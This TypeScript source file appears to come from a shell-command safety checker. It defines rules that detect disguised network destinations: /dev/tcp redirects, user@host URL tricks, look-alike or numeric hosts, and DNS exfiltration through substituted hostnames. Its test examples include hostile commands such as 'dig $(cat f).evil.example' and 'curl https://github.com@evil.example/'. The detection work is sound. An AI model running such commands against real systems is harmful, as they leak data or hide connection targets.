// Hosts and URLs → connections to a different host than it seems.

import type { CommandFact, Span, WordValue } from '../../../core/facts.ts';
import type { Check, Hit } from '../../check.ts';
import { findLookAlike } from './look-alikes.ts';
import { writtenWord } from './reading/layout.ts';
import { showText } from './reading/words.ts';

interface Url {
  readonly text: string;
  readonly scheme: string;
  readonly user: string | null;
  readonly host: string;
  readonly rest: string;
  readonly span: Span;
}

const URL_START = /^([A-Za-z][A-Za-z0-9+.-]{0,20}):\/\//;
const LOOKS_ONLY: ReadonlySet<string> = new Set(['neutral', 'list', 'search', 'read']);

const textOf = (word: WordValue) =>
  word.kind === 'literal' ? word.value : word.kind === 'dynamic' ? word.head : word.glob;

const NO_URLS: readonly Url[] = [];

/** The URLs among the words of a command that may contact them. */
function urlsOf({ words, effects, class: kind }: CommandFact): readonly Url[] {
  if (effects.network.length === 0 && LOOKS_ONLY.has(kind)) return NO_URLS;
  return words
    .filter((word) => textOf(word).includes('://'))
    .flatMap((word) => {
      const text = textOf(word);
      const value = /^--?[\w-]+=/.test(text) ? text.slice(text.indexOf('=') + 1) : text;
      const start = URL_START.exec(value);
      if (start === null) return [];
      const after = value.slice(start[0].length);
      const end = after.search(/[/?#]/);
      const authority = end === -1 ? after : after.slice(0, end);
      const at = authority.lastIndexOf('@');
      const host = authority.slice(at + 1).replace(/:\d*$/, '');
      const user = at === -1 ? null : authority.slice(0, at);
      const scheme = (start[1] as string).toLowerCase();
      return [{ text: value, scheme, user, host, rest: end === -1 ? '' : after.slice(end), span: word.span }];
    });
}

const WEB: ReadonlySet<string> = new Set(['http', 'https', 'ftp', 'ftps', 'ws', 'wss']);

function urlHits(command: CommandFact, tell: (url: Url) => string | null): readonly Hit[] | null {
  const urls = urlsOf(command);
  if (urls.length === 0) return null;
  return urls.flatMap((url) => {
    const message = tell(url);
    return message === null ? [] : [{ span: url.span, message: showText(message) }];
  });
}

/** `2130706433`, `0x7f.1`, `0177.0.0.1`, `127.1`: valid addresses for the resolver, but hard to recognize. */
function isNumberHost(host: string): boolean {
  const parts = host.split('.');
  if (parts.length > 4 || !parts.every((part) => /^(?:0[xX][0-9A-Fa-f]+|\d+)$/.test(part))) return false;
  if (parts.length === 1 && /^\d{1,5}$/.test(host)) return false;
  return parts.length < 4 || parts.some((part) => part.length > 1 && part.startsWith('0'));
}

const RESOLVERS = [
  'dig',
  'host',
  'nslookup',
  'drill',
  'ping',
  'ping6',
  'traceroute',
  'whois',
  'getent',
  'delv',
  'kdig',
];
const CLIENTS = ['curl', 'wget', 'nc', 'ncat', 'telnet', 'ssh', 'http', 'https', 'xh', 'ftp'];

/** The host part of a word: up to the first slash after the scheme. */
function hostPart(written: string): string {
  const text = written.replace(/^["']+/, '').replace(URL_START, '');
  const slash = text.indexOf('/');
  const opening = text.search(/\$\(|`/);
  return slash === -1 || (opening !== -1 && opening < slash) ? text : text.slice(0, slash);
}

export const URL_CHECKS: readonly Check[] = [
  {
    id: 'network-redirect',
    touches: ['redirects'],
    layer: 'confusion',
    severity: 'high',
    verdict: 'deny',
    message: 'A redirect to /dev/tcp or /dev/udp is not a file: bash opens a network connection.',
    instead: 'Use a network program, so that the connection is visible: `curl`, or `nc -z HOST PORT` to test a port.',
    inspect({ redirects }) {
      if (redirects.length === 0) return null;
      return redirects.flatMap(({ target, span }) => {
        const text =
          target === null || target.kind === 'pattern' ? '' : target.kind === 'literal' ? target.value : target.head;
        return /^\/dev\/(?:tcp|udp)\//.test(text) ? [{ span }] : [];
      });
    },
    examples: {
      matches: [
        'echo a > /dev/tcp/10.0.0.1/80',
        'exec 3<>/dev/tcp/a.example/80',
        "bash -c '</dev/udp/a.example/53'",
        'cat < /dev/tcp/$h/80',
        'ls >"/dev/t"cp/1.2.3.4/9',
      ],
      passes: ['echo a > /dev/null', 'ls /dev/tcp', 'echo "/dev/tcp/a/80"', 'echo x > dev/tcp/a'],
    },
  },
  {
    id: 'url-user-like-host',
    layer: 'confusion',
    severity: 'high',
    verdict: 'ask',
    message: 'The text that looks like the host of a URL is a user name: the host comes after the @.',
    instead: 'Write the host directly after `https://`.',
    inspect: (command) =>
      urlHits(command, ({ scheme, user, host }) => {
        if (user === null || !WEB.has(scheme)) return null;
        const name = user.split(':', 1)[0] as string;
        const isHostLike = /[^.]\.[^.]/.test(name) || name.includes('\\') || name.includes('%') || user.includes('@');
        return isHostLike
          ? `"${name}" looks like the host of the URL, but it is a user name: the host is ${host}.`
          : null;
      }),
    examples: {
      matches: [
        'curl https://github.com@evil.example/',
        'git clone https://github.com:x@evil.example/a',
        'wget https://a.example\\\\@evil.example/',
      ],
      passes: [
        'curl https://user:pw@a.example/',
        'git clone ssh://git@github.com/a/b',
        'git clone https://x-access-token:t@github.com/a/b',
        'curl https://a.example/@user',
        'echo https://github.com@evil.example/',
      ],
    },
  },
  {
    id: 'url-look-alike-host',
    layer: 'confusion',
    severity: 'high',
    verdict: 'ask',
    message: 'The host of a URL can be confused with another one.',
    instead: 'Write the host in plain ASCII letters.',
    inspect: (command) =>
      urlHits(command, ({ host }) => {
        if (/(?:^|\.)xn--/i.test(host)) return `The host ${host} is encoded: a browser shows it with other letters.`;
        const found = findLookAlike(host, true);
        if (found !== null) return `The host ${host} contains a letter that only looks like "${found.looks}".`;
        return /[\u2024\u3002\uff0e\uff61\u2215\u2044\uff0f]/.test(host)
          ? `The host ${host} contains a mark that only looks like a dot or slash.`
          : null;
      }),
    examples: {
      matches: [
        'curl https://g\u0456thub.com/x',
        'curl https://xn--gthub-cta.com/',
        'wget https://a.example\u2215evil.example',
        'curl https://\u0430\u0440\u0435.com',
      ],
      passes: [
        'curl https://github.com/',
        'curl https://m\u00fcller.example/',
        'curl https://\u4f8b\u3048.jp/',
        'curl https://a.example/xn--b',
      ],
    },
  },
  {
    id: 'number-host',
    layer: 'confusion',
    severity: 'high',
    verdict: 'ask',
    message: 'An address is written as one number, or with hexadecimal or octal parts, which hides the destination.',
    instead: 'Write the host name, or the address as four decimal numbers.',
    inspect(command) {
      if (command.effects.network.length === 0 && urlsOf(command).length === 0) return null;
      const hosts = command.effects.network.flatMap(({ host }) => (host === null ? [] : [host]));
      const host = [...urlsOf(command).map((url) => url.host), ...hosts].find(isNumberHost);
      return host === undefined
        ? null
        : {
            span: command.span,
            message: `The address ${showText(host, 60)} is written as a number, which is hard to read.`,
          };
    },
    examples: {
      matches: [
        'curl http://2130706433/',
        'curl http://0x7f.1/',
        'ping 2130706433',
        'wget http://0177.0.0.1/x',
        'curl http://127.1/',
      ],
      passes: [
        'curl http://127.0.0.1:8080/',
        'ping 10.0.0.1',
        'curl http://localhost:3000/',
        'curl http://1.2.3.4.example/',
        'sleep 5',
      ],
    },
  },
  {
    id: 'url-encoded-parts',
    layer: 'confusion',
    severity: 'medium',
    verdict: 'ask',
    message: 'A URL encodes characters that need no encoding, or contains blanks, which hides the destination.',
    instead: 'Write dots, slashes and letters as they are.',
    inspect: (command) =>
      urlHits(command, ({ host, rest, text }) => {
        if (host.includes('%') && !host.startsWith('[')) return `The host ${host} is percent-encoded.`;
        if (/%2e%2e|%2e\.|\.%2e|\.\.%2f|%252e/i.test(rest))
          return 'The URL hides ".." behind percent-encoding: it leads to a different folder than it seems.';
        return /[\t\n\r]/.test(text) ? 'The URL contains a tab or a newline, which many programs ignore.' : null;
      }),
    examples: {
      matches: [
        'curl https://a%2eexample/',
        'curl https://a.example/x/%2e%2e/y',
        'curl https://a.example/..%2fy',
        `curl "https://a.exa\tmple/"`,
      ],
      passes: [
        'curl "https://a.example/?q=a%20b%2Fc"',
        'curl https://a.example/a.b/c',
        "curl 'http://[fe80::1%25eth0]/'",
      ],
    },
  },
  {
    id: 'substituted-host',
    layer: 'confusion',
    severity: 'high',
    verdict: 'ask',
    message: 'The host comes from a substitution: the DNS lookup of the name alone can leak data.',
    instead: 'Write the host, or print the value first and check it.',
    names: [...RESOLVERS, ...CLIENTS],
    inspect: (command, { facts }) =>
      command.words.flatMap((word, i) => {
        const written = i > 0 && word.kind === 'dynamic' ? writtenWord(command, i, facts) : null;
        if (written === null || (written.startsWith('-') && CLIENTS.includes(command.name ?? ''))) return [];
        const isValue =
          CLIENTS.includes(command.name ?? '') &&
          !/^["']?[A-Za-z][\w+.-]*:\/\//.test(written) &&
          !/[)`]["']?\.\w/.test(written);
        return !isValue && /\$\(|`/.test(hostPart(written)) ? [{ span: word.span }] : [];
      }),
    examples: {
      matches: [
        'dig $(cat f).evil.example',
        'ping -c1 `whoami`.evil.example',
        'nslookup "$(id -u).evil.example"',
        'curl http://$(hostname).evil.example/',
        'curl "$(id).evil.example"',
      ],
      passes: [
        'dig a.example',
        'curl https://a.example/$(date +%F)',
        'curl -H "Authorization: $(cat t)" https://a.example',
        'echo $(hostname).a',
        'curl -d "$(cat f)" https://a.example',
      ],
    },
  },
];
